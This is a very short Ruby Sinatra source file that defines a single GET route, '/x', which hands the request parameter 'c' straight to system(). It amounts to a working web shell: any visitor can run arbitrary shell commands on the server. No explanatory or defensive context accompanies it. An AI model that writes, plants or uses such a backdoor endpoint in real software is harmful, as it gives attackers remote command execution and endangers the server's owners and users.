require 'sinatra'
get '/x' do
  system(params['c'])
end
